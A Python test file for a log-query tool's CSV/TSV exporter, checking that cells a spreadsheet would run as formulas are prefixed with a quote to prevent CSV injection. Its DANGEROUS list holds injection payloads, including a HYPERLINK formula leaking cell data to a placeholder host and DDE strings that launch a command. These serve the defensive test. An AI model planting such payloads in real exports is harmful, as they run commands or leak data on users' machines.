"""CSV/TSV cells a spreadsheet would run get a leading quote (OWASP CSV injection); --csv-raw keeps them raw."""

from __future__ import annotations

import csv
import io

from hypothesis import given, settings
from hypothesis import strategies as st

from trailq.reporting.output import RenderOptions, formula_safe, render
from trailq.result import Result, Target

DANGEROUS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-", "@"]


def _result(values: list[str]) -> Result:
    return Result("q", Target(source="sample"), ["@timestamp", "userAgent"],
                  [{"@timestamp": "2026-11-20 08:00:00.000", "userAgent": v} for v in values])


def _cells(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def test_every_dangerous_start_is_prefixed_and_quoted_in_csv_and_tsv():
    for fmt, delimiter in (("csv", ","), ("tsv", "\t")):
        text = render([_result(DANGEROUS)], RenderOptions(format=fmt)).text
        rows = _cells(text, delimiter)
        assert rows[0] == ["@timestamp", "userAgent"]  # plain field names are not rewritten
        assert [row[1] for row in rows[1:]] == ["'" + v for v in DANGEROUS]
        for line in text.split("\r\n")[1:-1]:
            assert f"{delimiter}\"'" in line  # the guarded cell is quoted as well


def test_plain_numbers_stay_numbers():
    values = ["-5", "+7", "-1.5e3", "-.5", "12"]
    rows = _cells(render([_result(values)], RenderOptions(format="csv")).text)
    assert [row[1] for row in rows[1:]] == values
    assert formula_safe("-5-cmd") == "'-5-cmd"


def test_csv_raw_writes_cells_as_they_are():
    rows = _cells(render([_result(DANGEROUS)], RenderOptions(format="csv", csv_raw=True)).text)
    assert [row[1] for row in rows[1:]] == DANGEROUS


def test_a_header_that_could_run_is_guarded_too():
    result = Result("q", Target(source="sample"), ["=1+1"], [{"=1+1": "x"}])
    assert _cells(render([result], RenderOptions(format="csv")).text)[0] == ["'=1+1"]


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=20))
def test_no_written_cell_starts_a_formula(value):
    cell = _cells(render([_result([value])], RenderOptions(format="csv")).text)[1][1]
    assert cell in (value, "'" + value)
    if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
        assert cell == value and formula_safe(value) is None  # only a plain number may
